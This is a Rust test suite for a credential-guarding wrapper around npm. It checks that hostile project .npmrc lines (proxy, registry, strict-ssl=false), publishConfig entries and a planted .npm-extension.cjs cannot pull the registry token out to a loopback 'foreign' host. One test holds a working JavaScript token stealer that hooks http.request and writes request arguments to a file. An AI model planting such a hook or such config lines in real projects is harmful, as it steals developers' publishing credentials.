//! A project must not lead a credential astray: what its `.npmrc` can change about the way gets
//! nothing, and is named.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::json;

use super::packages::{consumer, publishable, stored};
use super::support::Lab;
use super::support::pty::Session;

/// A foreign host on loopback that keeps what it is sent, and answers that there is nothing.
struct Foreign {
    port: u16,
    heard: Arc<Mutex<String>>,
}

impl Foreign {
    fn listen() -> Foreign {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::new(Mutex::new(String::new()));
        let kept = Arc::clone(&heard);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                let mut bytes = [0; 16384];
                let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
                let count = stream.read(&mut bytes).unwrap_or(0);
                kept.lock()
                    .unwrap()
                    .push_str(&String::from_utf8_lossy(&bytes[..count]));
                let _ = stream.write_all(
                    b"HTTP/1.1 404 Not Found\r\nconnection: close\r\ncontent-length: 2\r\n\r\n{}",
                );
            }
        });
        Foreign { port, heard }
    }

    fn heard(&self) -> String {
        self.heard.lock().unwrap().to_lowercase()
    }
}

fn write_config(lab: &Lab, line: &str) -> PathBuf {
    lab.write(
        "work/consumer/.npmrc",
        format!("# a project's own\n{line}\n"),
    )
}

/// Each of these lines, alone in the project's file: nothing is handed over, and the message names
/// it.
fn gets_nothing(major: u32) {
    let lab = stored(major);
    let project = consumer(&lab, "consumer");
    let foreign = Foreign::listen();
    let away = format!("http://127.0.0.1:{}/", foreign.port);
    let lines = [
        format!("proxy={away}"),
        format!("http-proxy={away}"),
        format!("https-proxy={away}"),
        "strict-ssl=false".to_owned(),
        format!("@priv:registry={away}"),
        format!("registry={away}"),
    ];
    for line in &lines {
        let mapped = if line.starts_with('@') {
            format!("@priv:registry={}\n", lab.registry.url)
        } else {
            String::new()
        };
        lab.write("home/.npmrc", lab.user_config() + &mapped);
        let file = write_config(&lab, line);
        let key = line.split('=').next().unwrap();
        let outcome = lab
            .npm(
                &project,
                &["view", "@priv/lib", "version", "--fetch-retries=0"],
            )
            .run();
        assert!(
            !outcome.status.success(),
            "npm {major}, {line}: it went through: {outcome}"
        );
        let said = outcome.said().join("\n");
        for part in [file.to_str().unwrap(), "line 2", key, "npmcred trust"] {
            assert!(
                said.contains(part),
                "npm {major}, {line}: no {part:?} in {said:?}\n{outcome}"
            );
        }
        assert!(
            !foreign.heard().contains("authorization"),
            "npm {major}, {line}: {}",
            foreign.heard()
        );
        assert!(
            !outcome.out().contains(&lab.registry.writer.token),
            "{outcome}"
        );
    }
}

#[test]
fn a_hostile_line_gets_nothing_with_npm_8() {
    gets_nothing(8);
}

#[test]
fn a_hostile_line_gets_nothing_with_npm_11() {
    gets_nothing(11);
}

#[test]
fn a_hostile_line_gets_nothing_with_npm_12() {
    gets_nothing(12);
}

#[test]
fn what_is_stored_for_https_does_not_travel_over_http() {
    let lab = stored(11);
    let twin = lab.registry.url.replace("http:", "https:");
    lab.npmcred(&["remove", "--registry", &lab.registry.url])
        .run()
        .expect(0);
    lab.store(&twin, &lab.registry.writer, &[]);
    lab.write("home/.npmrc", lab.user_config().replace("http:", "https:"));
    let project = consumer(&lab, "consumer");
    write_config(&lab, &format!("registry={}", lab.registry.url));
    let outcome = lab
        .npm(&project, &["view", "@priv/lib", "version"])
        .run()
        .expect(1);
    let said = outcome.said().join("\n");
    assert!(
        said.contains("line 2") && said.contains("registry"),
        "{outcome}"
    );
}

#[test]
fn a_command_that_needs_the_credential_stops() {
    let lab = stored(11);
    let (package, name) = publishable(&lab, "guarded");
    lab.write("work/guarded/.npmrc", "strict-ssl=false\n");
    let outcome = lab.npm(&package, &["publish"]).run().expect(7);
    assert!(
        outcome.err().contains("strict-ssl") && outcome.err().contains("npmcred trust"),
        "{outcome}"
    );
    assert!(
        lab.registry.requests(&name.replace('/', "%2f")).is_empty(),
        "npm was started all the same"
    );
}

/// A package can say where it is published; that too is the project speaking.
#[test]
fn a_package_that_publishes_elsewhere_gets_nothing() {
    for major in [8, 11, 12] {
        let lab = stored(major);
        let foreign = Foreign::listen();
        let away = format!("http://127.0.0.1:{}/", foreign.port);
        for key in ["registry", "@priv:registry"] {
            let mut manifest = json!({ "name": "@priv/astray", "version": "1.0.0" });
            manifest["publishConfig"] = json!({ key: away });
            let package = lab.project("astray", &manifest);
            let outcome = lab.npm(&package, &["publish", "--fetch-retries=0"]).run();
            assert!(!outcome.status.success(), "npm {major}, {key}: {outcome}");
            assert!(
                !foreign.heard().contains("authorization"),
                "npm {major}, {key}: {}",
                foreign.heard()
            );
        }
    }
}

/// npm 12 loads `.npm-extension.cjs` of a project into its own process, where it sees every header
/// that npm sends. Once it is trusted it does take the token, which shows that it would have.
#[test]
fn code_that_becomes_a_part_of_npm_gets_nothing_until_it_is_trusted() {
    let lab = stored(12);
    let project = consumer(&lab, "consumer");
    let thief = "const http = require('node:http')\n\
        const request = http.request\n\
        http.request = (...args) => {\n\
          require('node:fs').appendFileSync(__dirname + '/stolen', require('node:util').inspect(args, { depth: 4 }))\n\
          return request(...args)\n\
        }\n\
        exports.transformManifest = pkg => pkg\n";
    let file = lab.write("work/consumer/.npm-extension.cjs", thief);
    let token = &lab.registry.writer.token;
    let install = || {
        for stale in ["home/.npm", "work/consumer/node_modules"] {
            let _ = std::fs::remove_dir_all(lab.path(stale));
        }
        let outcome = lab.npm(&project, &["install", "--fetch-retries=0"]).run();
        let stolen = std::fs::read_to_string(project.join("stolen"))
            .unwrap_or_default()
            .contains(token.as_str());
        let _ = std::fs::remove_file(project.join("stolen"));
        (outcome, stolen)
    };
    let (outcome, stolen) = install();
    assert!(!outcome.status.success() && !stolen, "{outcome}");
    let said = outcome.said().join("\n");
    assert!(
        said.contains(file.to_str().unwrap()) && said.contains("npmcred trust"),
        "{outcome}"
    );
    lab.npmcred(&["trust", "--yes"])
        .cwd(&project)
        .run()
        .expect(0);
    let (outcome, stolen) = install();
    assert!(
        outcome.status.success() && stolen,
        "it was trusted, and should have worked: {outcome}"
    );
    lab.write(
        "work/consumer/.npm-extension.cjs",
        format!("{thief}// changed\n"),
    );
    let (outcome, stolen) = install();
    assert!(!outcome.status.success() && !stolen, "{outcome}");
}

#[test]
fn trust_lets_the_very_lines_through_and_no_others() {
    let lab = stored(11);
    let project = consumer(&lab, "consumer");
    let file = write_config(&lab, "strict-ssl=false");
    // A fresh cache each time: npm answers from its own even what it may not fetch any more.
    let view = || {
        let _ = std::fs::remove_dir_all(lab.path("home/.npm"));
        lab.npm(
            &project,
            &["view", "@priv/lib", "version", "--fetch-retries=0"],
        )
        .run()
    };
    view().expect(1);
    let shown = lab
        .npmcred(&["trust", "--yes"])
        .cwd(&project)
        .run()
        .expect(0);
    assert!(
        shown.out().contains("strict-ssl") || shown.err().contains("strict-ssl"),
        "{shown}"
    );
    assert_eq!(view().expect(0).out().trim(), "1.0.0");
    std::fs::write(&file, "strict-ssl=false\nproxy=http://127.0.0.1:9/\n").unwrap();
    view().expect(1);
    let inside: Vec<_> = std::fs::read_dir(&project)
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .collect();
    assert!(
        inside
            .iter()
            .all(|name| name == ".npmrc" || name == "package.json"),
        "recorded in the project: {inside:?}"
    );
}

#[test]
fn trust_asks_at_a_terminal_and_takes_no_for_an_answer() {
    let lab = stored(11);
    let project = consumer(&lab, "consumer");
    write_config(&lab, "strict-ssl=false");
    for (answer, status) in [("n\n", 1), ("yes\n", 0)] {
        let mut session = Session::start(&lab.npmcred(&["trust"]).cwd(&project));
        session.wait_for("strict-ssl");
        session.type_in(answer);
        session.finish();
        lab.npm(&project, &["view", "@priv/lib", "version"])
            .run()
            .expect(status);
    }
}
